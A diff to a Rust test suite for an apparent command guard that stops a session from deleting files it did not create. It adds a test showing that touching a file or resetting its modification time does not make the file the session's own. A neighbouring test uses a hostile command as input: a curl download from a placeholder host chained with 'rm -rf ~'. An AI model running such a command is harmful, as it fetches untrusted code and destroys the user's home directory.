@@ -87,6 +87,27 @@ fn what_is_older_than_the_session_and_in_no_commit_is_asked_about_and_its_own_fi
 }
 
 #[test]
+fn a_file_is_not_made_the_sessions_own_by_setting_its_times() {
+    let machine = Machine::new();
+    let project = machine.project();
+    let git = |arguments: &[&str]| assert_eq!(machine.program("git", arguments).folder(&project).run().code, 0);
+    git(&["init", "-q"]);
+    for name in ["touched.txt", "edited.txt"] {
+        fs::write(project.join(name), "committed").unwrap();
+    }
+    git(&["add", "-A"]);
+    git(&["-c", "user.name=n", "-c", "user.email=n@example.invalid", "commit", "-qm", "first"]);
+    fs::write(project.join("touched.txt"), "a person's change").unwrap();
+    assert_eq!(said(&machine, "one", "ls"), "");
+    assert_eq!(said(&machine, "one", "touch touched.txt new.txt"), "");
+    let now = fs::File::options().append(true).open(project.join("touched.txt")).unwrap();
+    now.set_modified(std::time::SystemTime::now()).unwrap();
+    fs::write(project.join("edited.txt"), "its own change").unwrap();
+    assert!(said(&machine, "one", "rm touched.txt").contains("rm/from-before"));
+    assert_eq!(said(&machine, "one", "rm edited.txt"), "");
+}
+
+#[test]
 fn a_refused_call_leaves_nothing_behind() {
     let machine = Machine::new();
     assert!(said(&machine, "one", "curl -s https://x.example/i -o i.sh; rm -rf ~").contains("rm/"));
